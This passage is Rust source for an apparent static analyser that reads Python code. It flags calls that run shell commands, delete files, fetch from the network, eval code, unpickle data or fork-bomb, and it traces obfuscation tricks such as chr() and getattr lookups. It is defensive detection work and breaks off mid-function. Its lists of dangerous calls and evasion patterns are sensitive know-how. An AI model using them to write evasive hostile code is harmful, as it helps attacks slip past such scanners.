//! Python: the calls that run commands, delete, read, write, fetch or run code, with the
//! constant values of their arguments (string literals and f-strings of constants, `+`,
//! `%s`, `str.join`/`format`/`replace`, `chr`, `os.path.join`/`expanduser`, `os.environ`,
//! `pathlib.Path` and `/`), and names bound once.

use tree_sitter::{Node, Tree};

use super::scope::{Cx, Names, Slot, Val, home, join};
use super::tree::Source;
use super::{Effect, tree::MAX_NESTING};

/// What an expression is, as far as the reader follows it.
#[derive(Debug, Clone)]
enum Obj {
    Val(Val),
    /// A module, class or function, by qualified name (`os.path.join`).
    Ref(String),
    /// A list or tuple of values (an argument vector).
    List(Vec<Val>),
    /// A `pathlib.Path` of this value.
    Path(Val),
    /// A method of a path (`Path(p).unlink`).
    PathMethod(Val, String),
    /// A method of a known string (`' '.join`).
    StrMethod(Val, String),
    /// An attribute of something not followed (`x.system`): only its name is known.
    Attr(String),
    /// The response of a network request: what it reads was downloaded.
    Response,
}

impl Obj {
    fn val(self) -> Val {
        match self {
            Obj::Val(v) | Obj::Path(v) => v,
            Obj::Response => Val::Fetched,
            _ => Val::Unknown,
        }
    }
}

/// Reads a Python module.
pub(super) fn read(cx: &mut Cx, tree: &Tree, src: &Source<'_>) {
    cx.allow(src.text.len());
    let root = tree.root_node();
    let mut py = Py {
        cx,
        src,
        names: Names::default(),
        loops: 0,
    };
    py.bind_all(root, 0);
    py.walk(root, 0);
}

struct Py<'a, 'c, 't> {
    cx: &'c mut Cx,
    src: &'a Source<'a>,
    names: Names<'t>,
    loops: usize,
}

impl<'a, 'c, 't> Py<'a, 'c, 't> {
    fn text(&self, node: Node<'_>) -> &'a str {
        self.src.of(node)
    }

    fn line(&self, node: Node<'_>) -> usize {
        self.src.line(node)
    }

    /// Gathers the names the code binds (see [`Names`]).
    fn bind_all(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING || !self.cx.step(self.line(node)) {
            return;
        }
        match node.kind() {
            "import_statement" => {
                let mut c = node.walk();
                for name in node.children_by_field_name("name", &mut c) {
                    match name.kind() {
                        "aliased_import" => {
                            if let (Some(n), Some(a)) = (
                                name.child_by_field_name("name"),
                                name.child_by_field_name("alias"),
                            ) {
                                self.names.bind(self.text(a), Slot::Ref(self.text(n).into()));
                            }
                        }
                        _ => {
                            let full = self.text(name);
                            let first = full.split('.').next().unwrap_or(full);
                            self.names.bind(first, Slot::Ref(first.into()));
                        }
                    }
                }
            }
            "import_from_statement" => {
                let module = node
                    .child_by_field_name("module_name")
                    .map(|m| self.text(m))
                    .unwrap_or_default();
                let mut c = node.walk();
                for child in node.named_children(&mut c) {
                    if child.kind() == "wildcard_import" {
                        self.names.star.push(module.to_owned());
                    }
                }
                let mut c = node.walk();
                for name in node.children_by_field_name("name", &mut c) {
                    let (n, alias) = match name.kind() {
                        "aliased_import" => (
                            name.child_by_field_name("name"),
                            name.child_by_field_name("alias"),
                        ),
                        _ => (Some(name), Some(name)),
                    };
                    if let (Some(n), Some(a)) = (n, alias) {
                        let q = format!("{module}.{}", self.text(n));
                        self.names.bind(self.text(a), Slot::Ref(q));
                    }
                }
            }
            "assignment" => self.bind_assignment(node),
            "named_expression" => {
                if let (Some(n), Some(v)) = (
                    node.child_by_field_name("name"),
                    node.child_by_field_name("value"),
                ) {
                    self.names.bind(self.text(n), Slot::Expr(v));
                }
            }
            "augmented_assignment" => self.forget_in(node.child_by_field_name("left")),
            "for_statement" | "for_in_clause" => self.forget_in(node.child_by_field_name("left")),
            "function_definition" | "class_definition" => {
                self.forget_in(node.child_by_field_name("name"));
                self.forget_in(node.child_by_field_name("parameters"));
            }
            "lambda" => self.forget_in(node.child_by_field_name("parameters")),
            "as_pattern" | "with_item" | "except_clause" => {
                let mut c = node.walk();
                for child in node.named_children(&mut c) {
                    if child.kind() == "as_pattern_target" {
                        self.forget_in(Some(child));
                    }
                }
                self.forget_in(node.child_by_field_name("alias"));
            }
            "global_statement" | "nonlocal_statement" | "delete_statement" => {
                self.forget_in(Some(node))
            }
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.bind_all(child, depth + 1);
        }
    }

    fn bind_assignment(&mut self, node: Node<'t>) {
        let (Some(left), Some(right)) = (
            node.child_by_field_name("left"),
            node.child_by_field_name("right"),
        ) else {
            self.forget_in(node.child_by_field_name("left"));
            return;
        };
        // `a = b = value`: the inner assignment is bound when the walk reaches it.
        let value = if right.kind() == "assignment" {
            right.child_by_field_name("right").unwrap_or(right)
        } else {
            right
        };
        if left.kind() == "identifier" {
            self.names.bind(self.text(left), Slot::Expr(value));
        } else {
            self.forget_in(Some(left));
        }
    }

    /// Every identifier under `node` becomes not known.
    fn forget_in(&mut self, node: Option<Node<'_>>) {
        let Some(node) = node else { return };
        if node.kind() == "identifier" {
            let name = self.text(node);
            self.names.forget(name);
            return;
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            if matches!(child.kind(), "identifier" | "pattern_list" | "tuple_pattern" | "list_pattern" | "parameters" | "typed_parameter" | "default_parameter" | "typed_default_parameter" | "list_splat_pattern" | "dictionary_splat_pattern" | "as_pattern_target" | "tuple" | "list" | "pattern" | "expression_list") {
                self.forget_in(Some(child));
            }
        }
    }

    /// Visits every node, reading the calls' effects.
    fn walk(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING {
            self.cx.opaque("the code nests too deeply to read", self.line(node));
            return;
        }
        if !self.cx.step(self.line(node)) {
            return;
        }
        let is_loop = matches!(
            node.kind(),
            "for_statement" | "while_statement" | "list_comprehension" | "generator_expression" | "set_comprehension" | "dictionary_comprehension"
        );
        self.loops += usize::from(is_loop);
        if node.kind() == "call" {
            self.call(node);
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.walk(child, depth + 1);
        }
        self.loops -= usize::from(is_loop);
    }

    /// The effect of one call.
    fn call(&mut self, node: Node<'t>) {
        let line = self.line(node);
        let Some(function) = node.child_by_field_name("function") else {
            return;
        };
        let callee = self.eval(function, 0);
        let args = Args::of(self, node);
        let name = match &callee {
            Obj::Ref(q) => q.clone(),
            Obj::PathMethod(path, method) => {
                self.path_method(path.clone(), method, &args, line);
                return;
            }
            // Only the name is known (`ctypes.CDLL(None).system`, `proc.spawn`): the calls
            // that run commands are recognised by name alone.
            Obj::Attr(attr) => match attr.as_str() {
                "system" | "popen" | "getoutput" | "getstatusoutput" | "check_output"
                | "check_call" | "Popen" | "rmtree" | "urlopen" | "urlretrieve" => {
                    format!("?.{attr}")
                }
                // `socket.socket().connect((host, port))`
                "connect" if matches!(args.pos(self, 0), Obj::List(_)) => "?.connect".to_owned(),
                _ => return,
            },
            _ => return,
        };
        let name = canonical(&name);
        let last = name.rsplit('.').next().unwrap_or(&name).to_owned();
        let evaluated: Vec<Obj> = (0..args.positional.len())
            .map(|n| args.pos(self, n))
            .collect();
        let k = |n: usize| evaluated.get(n).cloned().unwrap_or(Obj::Val(Val::Unknown));
        match name.as_str() {
            "os.system" | "os.popen" | "subprocess.getoutput" | "subprocess.getstatusoutput"
            | "commands.getoutput" | "commands.getstatusoutput" | "platform.popen"
            | "asyncio.create_subprocess_shell" | "?.system" | "?.popen" | "?.getoutput"
            | "?.getstatusoutput" => {
                let cmd = k(0).val();
                self.cx.found(Effect::Shell(cmd), line);
            }
            "subprocess.run" | "subprocess.call" | "subprocess.check_call"
            | "subprocess.check_output" | "subprocess.Popen" | "?.check_output"
            | "?.check_call" | "?.Popen" => {
                let shell = args.keyword(self, "shell").map(|o| o.val());
                let first = args.pos_or_kw(self, 0, "args");
                match (first, shell) {
                    (Obj::List(argv), None) => self.cx.found(Effect::Exec(argv), line),
                    (Obj::List(argv), Some(Val::Known(s))) if s == "False" => {
                        self.cx.found(Effect::Exec(argv), line)
                    }
                    (Obj::List(argv), Some(_)) => {
                        // With shell=True a list's first item is the script.
                        let script = argv.into_iter().next().unwrap_or(Val::Unknown);
                        self.cx.found(Effect::Shell(script), line)
                    }
                    (Obj::Val(Val::Known(s)), Some(Val::Known(f))) if f == "False" => {
                        self.cx.found(Effect::Exec(vec![Val::Known(s)]), line)
                    }
                    (Obj::Val(Val::Known(s)), None) => {
                        self.cx.found(Effect::Exec(vec![Val::Known(s)]), line)
                    }
                    (other, _) => self.cx.found(Effect::Shell(other.val()), line),
                }
            }
            "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" | "os.posix_spawn"
            | "os.posix_spawnp" => {
                let argv = list(k(1));
                self.exec_with(k(0).val(), argv, line);
            }
            "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => {
                let argv = list(k(2));
                self.exec_with(k(1).val(), argv, line);
            }
            "os.execl" | "os.execle" | "os.execlp" | "os.execlpe" => {
                let argv = args.positional_from(self, 1);
                self.exec_with(k(0).val(), argv, line);
            }
            "os.spawnl" | "os.spawnle" | "os.spawnlp" | "os.spawnlpe" => {
                let argv = args.positional_from(self, 2);
                self.exec_with(k(1).val(), argv, line);
            }
            "asyncio.create_subprocess_exec" => {
                let argv = args.positional_from(self, 0);
                self.cx.found(Effect::Exec(argv), line);
            }
            "pty.spawn" => match k(0) {
                Obj::List(argv) => self.cx.found(Effect::Exec(argv), line),
                other => self.cx.found(Effect::Exec(vec![other.val()]), line),
            },
            "shutil.rmtree" | "?.rmtree" => self.rm(&["-r", "-f"], k(0).val(), line),
            "os.remove" | "os.unlink" => self.rm(&[], k(0).val(), line),
            "os.rmdir" | "os.removedirs" => self.cx.command("rmdir", vec![k(0).val()], line),
            "os.truncate" => {
                let size = k(1).val();
                self.cx.command(
                    "truncate",
                    vec![Val::known("-s"), size, k(0).val()],
                    line,
                );
            }
            "shutil.move" | "os.rename" | "os.replace" | "os.renames" => {
                self.cx.command("mv", vec![k(0).val(), k(1).val()], line)
            }
            "shutil.copy" | "shutil.copy2" | "shutil.copyfile" | "shutil.copyfileobj" => {
                self.cx.command("cp", vec![k(0).val(), k(1).val()], line)
            }
            "shutil.copytree" => {
                self.cx
                    .command("cp", vec![Val::known("-r"), k(0).val(), k(1).val()], line)
            }
            "os.chmod" | "os.lchmod" => {
                let mode = octal(k(1).val());
                self.cx.command("chmod", vec![mode, k(0).val()], line)
            }
            "os.chown" | "os.lchown" | "shutil.chown" => {
                self.cx.command("chown", vec![Val::Unknown, k(0).val()], line)
            }
            "os.symlink" | "os.link" => {
                self.cx
                    .command("ln", vec![Val::known("-s"), k(0).val(), k(1).val()], line)
            }
            "os.kill" | "os.killpg" => {
                let sig = k(1).val();
                let sig = match sig {
                    Val::Known(s) => Val::Known(format!("-{}", s.trim_start_matches("signal."))),
                    other => other,
                };
                self.cx.command("kill", vec![sig, k(0).val()], line)
            }
            "builtins.open" | "io.open" | "codecs.open" | "os.open" | "fileinput.input" => {
                let path = args.pos_or_kw(self, 0, "file").val();
                let mode = args.pos_or_kw(self, 1, "mode").val();
                self.open(path, mode, line);
            }
            "builtins.exec" | "builtins.eval" | "builtins.compile" | "code.interact" => {
                let code = k(0).val();
                self.cx.eval(code, line);
            }
            "builtins.__import__" | "importlib.import_module" | "importlib.__import__" => {
                if k(0).val() == Val::Unknown {
                    self.cx
                        .opaque("the code imports a module whose name is computed", line);
                }
            }
            "builtins.getattr" => {
                if matches!(self.eval_arg(&args, 0), Obj::Ref(_))
                    && k(1).val().text().is_none()
                {
                    self.cx.opaque(
                        "the code calls a function whose name is computed at run time",
                        line,
                    );
                }
            }
            "os.fork" | "os.forkpty" | "pty.fork" if self.loops > 0 => {
                self.cx.opaque("the code forks in a loop (a fork bomb)", line)
            }
            "pickle.loads" | "pickle.load" | "marshal.loads" | "dill.loads" => {
                self.cx.opaque("the code unpickles data, which can run any code", line)
            }
            "ctypes.CDLL" | "ctypes.cdll.LoadLibrary" | "cffi.FFI" => {
                self.cx.opaque("the code calls native code directly", line)
            }
            _ if is_network(&name) => {
                let url = self.url_of(&name, &args);
                self.cx.command("curl", vec![url], line);
            }
            _ => {
                let _ = last;
            }
        }
    }

    fn eval_arg(&mut self, args: &Args<'t>, n: usize) -> Obj {
        args.pos(self, n)
    }

    /// `rm FLAGS PATH`.
    fn rm(&mut self, flags: &[&'static str], path: Val, line: usize) {
        let mut argv: Vec<Val> = flags.iter().map(|f| Val::known(*f)).collect();
        argv.push(path);
        self.cx.command("rm", argv, line);
    }

    /// Runs `path` with `argv` (whose first item is only the program's display name).
    fn exec_with(&mut self, path: Val, argv: Vec<Val>, line: usize) {
        let mut run = vec![path];
        run.extend(argv.into_iter().skip(1));
        self.cx.found(Effect::Exec(run), line);
    }

    /// `open(path, mode)`: a read (`cat`), a write (`tee`), or both.
    fn open(&mut self, path: Val, mode: Val, line: usize) {
        let mode = match mode {
            Val::Known(m) => m,
            _ if mode == Val::Unknown => "r+".to_owned(),
            _ => String::new(),
        };
        let writes = mode.contains(['w', 'a', 'x', '+'])
            || mode.contains("WRONLY")
            || mode.contains("RDWR")
            || mode.contains("CREAT");
        if !writes || mode.contains(['r', '+']) || mode.contains("RDWR") {
            self.cx.command("cat", vec![path.clone()], line);
        }
        if writes {
            self.cx.command("tee", vec![path], line);
        }
    }

    fn path_method(&mut self, path: Val, method: &str, args: &Args<'t>, line: usize) {
        match method {
            "unlink" => self.rm(&[], path, line),
            "rmdir" => self.cx.command("rmdir", vec![path], line),
            "read_text" | "read_bytes" => self.cx.command("cat", vec![path], line),
            "open" => {
                let mode = args.pos_or_kw(self, 0, "mode").val();
                self.open(path, mode, line);
            }
            "write_text" | "write_bytes" | "touch" => self.cx.command("tee", vec![path], line),
            "rename" | "replace" | "move" => {
                let to = args.pos(self, 0).val();
                self.cx.command("mv", vec![path, to], line);
            }
            "chmod" | "lchmod" => {
                let mode = octal(args.pos(self, 0).val());
                self.cx.command("chmod", vec![mode, path], line);
            }
            "symlink_to" | "hardlink_to" => {
                let to = args.pos(self, 0).val();
                self.cx.command("ln", vec![Val::known("-s"), to, path], line);
            }
            _ => {}
        }
    }

    /// The URL (or host) a network call reaches.
    fn url_of(&mut self, name: &str, args: &Args<'t>) -> Val {
        let (n, kw) = match name {
            "requests.request" | "httpx.request" | "urllib3.request" => (1, "url"),
            _ => (0, "url"),
        };
        let target = args.pos_or_kw(self, n, kw);
        let scheme = match name {
            "http.client.HTTPSConnection" => "https://",
            "http.client.HTTPConnection" => "http://",
            "ftplib.FTP" | "ftplib.FTP_TLS" => "ftp://",
            "smtplib.SMTP" | "smtplib.SMTP_SSL" => "smtp://",
            "telnetlib.Telnet" => "telnet://",
            "socket.create_connection" | "?.connect" => "tcp://",
            _ => "",
        };
        match target {
            // `socket.create_connection((host, port))`
            Obj::List(parts) => match parts.as_slice() {
                [Val::Known(h), Val::Known(p), ..] => Val::Known(format!("{scheme}{h}:{p}")),
                [Val::Known(h)] => Val::Known(format!("{scheme}{h}")),
                _ => Val::Unknown,
            },
            other => match other.val() {
                Val::Known(t) if !scheme.is_empty() && !t.contains("://") => {
                    Val::Known(format!("{scheme}{t}"))
                }
                v => v,
            },
        }
    }

    /// What `node` evaluates to.
    fn eval(&mut self, node: Node<'t>, depth: usize) -> Obj {
        if depth > MAX_NESTING || !self.cx.step(self.line(node)) {
            return Obj::Val(Val::Unknown);
        }
        match node.kind() {
            "string" => Obj::Val(self.string(node, depth)),
            "concatenated_string" => {
                let mut out = Val::known("");
                let mut c = node.walk();
                for part in node.named_children(&mut c) {
                    let v = self.string(part, depth);
                    out = out.concat(v);
                }
                Obj::Val(out)
            }
            "integer" => Obj::Val(Val::Known(self.text(node).replace('_', ""))),
            "true" => Obj::Val(Val::known("True")),
            "false" => Obj::Val(Val::known("False")),
            "none" => Obj::Val(Val::known("None")),
            "parenthesized_expression" | "await" => match node.named_child(0) {
                Some(inner) => self.eval(inner, depth + 1),
                None => Obj::Val(Val::Unknown),
            },
            "list" | "tuple" | "expression_list" => {
                let mut items = Vec::new();
                let mut c = node.walk();
                let children: Vec<Node<'t>> = node.named_children(&mut c).collect();
                for item in children {
                    if item.kind() == "list_splat" {
                        match item.named_child(0).map(|n| self.eval(n, depth + 1)) {
                            Some(Obj::List(more)) => items.extend(more),
                            _ => items.push(Val::Unknown),
                        }
                        continue;
                    }
                    items.push(self.eval(item, depth + 1).val());
                }
                Obj::List(items)
            }
            "identifier" => self.name(node, depth),
            "attribute" => {
                let (Some(object), Some(attr)) = (
                    node.child_by_field_name("object"),
                    node.child_by_field_name("attribute"),
                ) else {
                    return Obj::Val(Val::Unknown);
                };
                let attr = self.text(attr).to_owned();
                match self.eval(object, depth + 1) {
                    Obj::Ref(q) => Obj::Ref(format!("{q}.{attr}")),
                    Obj::Path(p) => match attr.as_str() {
                        "parent" | "name" | "stem" | "suffix" => Obj::Val(Val::Unknown),
                        _ => Obj::PathMethod(p, attr),
                    },
                    Obj::Response => Obj::Response,
                    Obj::Val(v @ Val::Known(_)) => Obj::StrMethod(v, attr),
                    Obj::Val(Val::Fetched) => Obj::Response,
                    _ => Obj::Attr(attr),
                }
            }
            "subscript" => self.subscript(node, depth),
            "binary_operator" => self.binary(node, depth),
            "conditional_expression" => {
                let mut c = node.walk();
                let parts: Vec<Node<'t>> = node.named_children(&mut c).collect();
                match parts.as_slice() {
                    [a, _, b] => {
                        let (a, b) = (self.eval(*a, depth + 1).val(), self.eval(*b, depth + 1).val());
                        Obj::Val(if a == b { a } else { Val::Unknown })
                    }
                    _ => Obj::Val(Val::Unknown),
                }
            }
            "call" => self.value_of_call(node, depth),
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn name(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let name = self.text(node);
        match self.names.get(name).cloned() {
            Some(Slot::Expr(value)) => {
                if !self.names.enter(name) {
                    return Obj::Val(Val::Unknown);
                }
                let out = self.eval(value, depth + 1);
                self.names.leave();
                out
            }
            Some(Slot::Ref(q)) => Obj::Ref(q),
            Some(Slot::Many) => Obj::Val(Val::Unknown),
            None => {
                if BUILTINS.contains(&name) {
                    return Obj::Ref(format!("builtins.{name}"));
                }
                if name == "__builtins__" {
                    return Obj::Ref("builtins".to_owned());
                }
                for module in &self.names.star {
                    let q = canonical(&format!("{module}.{name}"));
                    if is_known_call(&q) {
                        return Obj::Ref(q);
                    }
                }
                Obj::Val(Val::Unknown)
            }
        }
    }

    fn subscript(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let Some(value) = node.child_by_field_name("value") else {
            return Obj::Val(Val::Unknown);
        };
        let index = node.child_by_field_name("subscript");
        let base = self.eval(value, depth + 1);
        // `s[::-1]`
        if let (Some(i), Obj::Val(Val::Known(s))) = (index, &base)
            && i.kind() == "slice"
            && self.text(i).replace(' ', "") == "::-1"
        {
            return Obj::Val(Val::Known(s.chars().rev().collect()));
        }
        let key = index.map(|i| self.eval(i, depth + 1).val());
        match (base, key) {
            (Obj::Ref(q), Some(Val::Known(k))) if q == "os.environ" => Obj::Val(env(&k)),
            // `globals()['os']`, `__builtins__.__dict__['exec']`, `vars(os)['system']`
            (Obj::Ref(q), Some(Val::Known(k))) if q.ends_with(".__dict__") => {
                Obj::Ref(format!("{}.{k}", q.trim_end_matches(".__dict__")))
            }
            (Obj::Ref(q), Some(Val::Known(k))) if q == "builtins.globals()" => {
                self.name_text(&k)
            }
            (Obj::Ref(q), _) if q.ends_with(".__dict__") || q == "builtins.globals()" => {
                self.cx.opaque(
                    "the code looks up a function by a name computed at run time",
                    self.line(node),
                );
                Obj::Val(Val::Unknown)
            }
            (Obj::List(items), Some(Val::Known(k))) => match k.parse::<usize>() {
                Ok(n) => Obj::Val(items.get(n).cloned().unwrap_or(Val::Unknown)),
                Err(_) => Obj::Val(Val::Unknown),
            },
            (Obj::Response, _) => Obj::Response,
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// A name looked up by its text (`globals()['os']`).
    fn name_text(&mut self, name: &str) -> Obj {
        match self.names.get(name).cloned() {
            Some(Slot::Ref(q)) => Obj::Ref(q),
            None if BUILTINS.contains(&name) => Obj::Ref(format!("builtins.{name}")),
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn binary(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let (Some(l), Some(op), Some(r)) = (
            node.child_by_field_name("left"),
            node.child_by_field_name("operator"),
            node.child_by_field_name("right"),
        ) else {
            return Obj::Val(Val::Unknown);
        };
        let op = self.text(op);
        let left = self.eval(l, depth + 1);
        let right = self.eval(r, depth + 1);
        match (op, left, right) {
            ("+", Obj::List(a), Obj::List(b)) => Obj::List(a.into_iter().chain(b).collect()),
            ("+", a, b) => Obj::Val(a.val().concat(b.val())),
            ("/", Obj::Path(p), b) => Obj::Path(join(&[p, b.val()])),
            ("%", Obj::Val(Val::Known(f)), args) => {
                let args = match args {
                    Obj::List(items) => items,
                    other => vec![other.val()],
                };
                Obj::Val(percent(&f, &args))
            }
            ("*", Obj::Val(Val::Known(s)), Obj::Val(Val::Known(n)))
                if n.parse::<usize>().is_ok_and(|n| n * s.len() <= 4096) =>
            {
                Obj::Val(Val::Known(s.repeat(n.parse().unwrap_or(0))))
            }
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// The value a call returns, for the calls that compute strings and paths.
    fn value_of_call(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let Some(function) = node.child_by_field_name("function") else {
            return Obj::Val(Val::Unknown);
        };
        let callee = self.eval(function, depth + 1);
        let args = Args::of(self, node);
        let arg = |py: &mut Self, n: usize| args.pos(py, n).val();
        match callee {
            Obj::Ref(q) => {
                let q = canonical(&q);
                match q.as_str() {
                    "os.path.expanduser" | "os.path.abspath" | "os.path.realpath"
                    | "os.path.normpath" | "os.fspath" | "builtins.str" | "builtins.bytes"
                    | "os.fsencode" | "os.fsdecode" => Obj::Val(arg(self, 0)),
                    "os.path.expandvars" => match arg(self, 0) {
                        Val::Known(p) if !home(&p).contains('$') => Obj::Val(Val::Known(home(&p))),
                        _ => Obj::Val(Val::Unknown),
                    },
                    "os.path.join" | "posixpath.join" => {
                        let parts = args.positional_from(self, 0);
                        Obj::Val(join(&parts))
                    }
                    "os.getenv" | "os.environ.get" => match arg(self, 0) {
                        Val::Known(k) => Obj::Val(env(&k)),
                        _ => Obj::Val(Val::Unknown),
                    },
                    "os.getcwd" => Obj::Val(Val::known(".")),
                    "pathlib.Path" | "pathlib.PosixPath" | "pathlib.PurePath"
                    | "pathlib.PurePosixPath" => {
                        let parts = args.positional_from(self, 0);
                        Obj::Path(if parts.is_empty() { Val::known(".") } else { join(&parts) })
                    }
                    "pathlib.Path.home" => Obj::Path(Val::known("~")),
                    "pathlib.Path.cwd" => Obj::Path(Val::known(".")),
                    "builtins.chr" => match arg(self, 0) {
                        Val::Known(n) => Obj::Val(
                            parse_int(&n)
                                .and_then(char::from_u32)
                                .map_or(Val::Unknown, |c| Val::Known(c.to_string())),
                        ),
                        other => Obj::Val(other),
                    },
                    "builtins.__import__" | "importlib.import_module" => match arg(self, 0) {
                        Val::Known(m) => Obj::Ref(m),
                        _ => Obj::Val(Val::Unknown),
                    },
                    "builtins.getattr" => match (args.pos(self, 0), arg(self, 1)) {
                        (Obj::Ref(q), Val::Known(a)) => Obj::Ref(format!("{q}.{a}")),
                        (Obj::Path(p), Val::Known(a)) => Obj::PathMethod(p, a),
                        (_, Val::Known(a)) => Obj::Attr(a),
                        _ => Obj::Val(Val::Unknown),
                    },
                    "builtins.globals" | "builtins.locals" => Obj::Ref("builtins.globals()".into()),
                    "builtins.vars" => match args.pos(self, 0) {
                        Obj::Ref(q) => Obj::Ref(format!("{q}.__dict__")),
                        _ => Obj::Ref("builtins.globals()".into()),
                    },
                    "builtins.compile" => Obj::Val(arg(self, 0)),
                    "builtins.list" | "builtins.tuple" => args.pos(self, 0),
                    "urllib.request.Request" => Obj::Val(arg(self, 0)),
                    _ if is_network(&q) => Obj::Response,
                    _ if is_decoder(&q) => Obj::Val(Val::Fetched),
                    _ => Obj::Val(Val::Unknown),
                }
            }
            Obj::PathMethod(p, m) => match m.as_str() {
                "expanduser" | "resolve" | "absolute" | "joinpath" => {
                    let mut parts = vec![p];
                    parts.extend(args.positional_from(self, 0));
                    Obj::Path(join(&parts))
                }
                _ => Obj::Val(Val::Unknown),
            },
            Obj::StrMethod(p, m) => match m.as_str() {
                "join" => match args.pos(self, 0) {
                    Obj::List(items) => {
                        let texts: Option<Vec<&str>> = items.iter().map(Val::text).collect();
                        let sep = p.text().unwrap_or_default();
                        Obj::Val(texts.map_or(Val::Unknown, |t| Val::Known(t.join(sep))))
                    }
                    Obj::Val(Val::Known(s)) => {
                        let sep = p.text().unwrap_or_default();
                        let chars: Vec<String> = s.chars().map(String::from).collect();
                        Obj::Val(Val::Known(chars.join(sep)))
                    }
                    _ => Obj::Val(Val::Unknown),
                },
                "split" => match (p, args.pos(self, 0)) {
                    (Val::Known(s), Obj::Val(Val::Known(sep))) if !sep.is_empty() => {
                        Obj::List(s.split(sep.as_str()).map(Val::known).collect())
                    }
                    (Val::Known(s), _) if args.count() == 0 => {
                        Obj::List(s.split_whitespace().map(Val::known).collect())
                    }
                    _ => Obj::Val(Val::Unknown),
                },
                "replace" => match (p, arg(self, 0), arg(self, 1)) {
                    (Val::Known(s), Val::Known(a), Val::Known(b)) if !a.is_empty() => {
                        Obj::Val(Val::Known(s.replace(&a, &b)))
                    }
                    _ => Obj::Val(Val::Unknown),
                },
                "format" => {
                    let items = args.positional_from(self, 0);
                    Obj::Val(format_braces(p, &items))
                }
                "strip" | "lstrip" | "rstrip" if args.count() == 0 => {
                    Obj::Val(match p {
                        Val::Known(s) => Val::Known(match m.as_str() {
                            "strip" => s.trim().to_owned(),
                            "lstrip" => s.trim_start().to_owned(),
                            _ => s.trim_end().to_owned(),
                        }),
                        other => other,
                    })
                }
                "lower" => Obj::Val(p.text().map_or(Val::Unknown, |s| Val::Known(s.to_lowercase()))),
                "upper" => Obj::Val(p.text().map_or(Val::Unknown, |s| Val::Known(s.to_uppercase()))),
                "encode" | "decode" => Obj::Val(p),
                _ => Obj::Val(Val::Unknown),
            },
            Obj::Response => Obj::Response,
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// A string literal's value: escapes decoded (unless raw), f-string parts evaluated.
    fn string(&mut self, node: Node<'t>, depth: usize) -> Val {
        if node.kind() != "string" {
            return self.eval(node, depth + 1).val();
        }
        let mut raw = false;
        let mut out = Val::known("");
        let mut c = node.walk();
        for part in node.named_children(&mut c) {
            match part.kind() {
                "string_start" => {
                    let prefix = self.text(part);
                    raw = prefix.contains(['r', 'R']);
                }
                "string_content" => {
                    let text = self.text(part);
                    let text = if raw { text.to_owned() } else { unescape(text) };
                    out = out.concat(Val::Known(text));
                }
                "interpolation" => {
                    let v = match part.child_by_field_name("expression") {
                        Some(e) if part.child_by_field_name("format_specifier").is_none() => {
                            self.eval(e, depth + 1).val()
                        }
                        _ => Val::Unknown,
                    };
                    out = out.concat(v);
                }
                _ => {}
            }
        }
        out
    }
}

/// A call's arguments: positional and keyword, unevaluated.
struct Args<'t> {
    positional: Vec<Node<'t>>,
    keywords: Vec<(String, Node<'t>)>,
    /// A `*args` or `**kwargs` whose items are not known.
    splat: bool,
}

impl<'t> Args<'t> {
    fn of(py: &Py<'_, '_, 't>, call: Node<'t>) -> Args<'t> {
        let mut args = Args {
            positional: Vec::new(),
            keywords: Vec::new(),
            splat: false,
        };
        let Some(list) = call.child_by_field_name("arguments") else {
            return args;
        };
        let mut c = list.walk();
        for a in list.named_children(&mut c) {
            match a.kind() {
                "keyword_argument" => {
                    if let (Some(n), Some(v)) =
                        (a.child_by_field_name("name"), a.child_by_field_name("value"))
                    {
                        args.keywords.push((py.text(n).to_owned(), v));
                    }
                }
                "list_splat" | "dictionary_splat" => {
                    args.splat = true;
                    args.positional.push(a);
                }
                "comment" => {}
                _ => args.positional.push(a),
            }
        }
        args
    }

    fn count(&self) -> usize {
        self.positional.len() + self.keywords.len()
    }

    fn pos(&self, py: &mut Py<'_, '_, 't>, n: usize) -> Obj {
        match self.positional.get(n) {
            Some(node) if node.kind() == "list_splat" => match node.named_child(0) {
                Some(inner) => py.eval(inner, 0),
                None => Obj::Val(Val::Unknown),
            },
            Some(node) => py.eval(*node, 0),
            None if self.splat => Obj::Val(Val::Unknown),
            None => Obj::Val(Val::Unknown),
        }
    }

    fn keyword(&self, py: &mut Py<'_, '_, 't>, name: &str) -> Option<Obj> {
        let node = self.keywords.iter().find(|(n, _)| n == name).map(|(_, v)| *v)?;
        Some(py.eval(node, 0))
    }

    fn pos_or_kw(&self, py: &mut Py<'_, '_, 't>, n: usize, name: &str) -> Obj {
        if self.positional.len() > n {
            return self.pos(py, n);
        }
        self.keyword(py, name).unwrap_or(if self.splat {
            Obj::Val(Val::Unknown)
        } else {
            Obj::Val(Val::known(""))
        })
    }

    /// The positional arguments from `n` on, `*list` spread.
    fn positional_from(&self, py: &mut Py<'_, '_, 't>, n: usize) -> Vec<Val> {
        let mut out = Vec::new();
        for node in self.positional.iter().skip(n) {
            if node.kind() == "list_splat" {
                match node.named_child(0).map(|i| py.eval(i, 0)) {
                    Some(Obj::List(items)) => out.extend(items),
                    _ => out.push(Val::Unknown),
                }
            } else if node.kind() == "dictionary_splat" {
                out.push(Val::Unknown);
            } else {
                out.push(py.eval(*node, 0).val());
            }
        }
        out
    }
}

fn list(obj: Obj) -> Vec<Val> {
    match obj {
        Obj::List(items) => items,
        other => vec![Val::Unknown, other.val()],
    }
}

/// Names the built-in module holds that the reader follows.
const BUILTINS: &[&str] = &[
    "open", "exec", "eval", "compile", "__import__", "getattr", "chr", "str", "bytes",
    "globals", "locals", "vars", "list", "tuple",
];

/// The module names that are another name for the same module.
fn canonical(name: &str) -> String {
    for (alias, real) in [
        ("posix.", "os."),
        ("nt.", "os."),
        ("posixpath.", "os.path."),
        ("urllib2.", "urllib.request."),
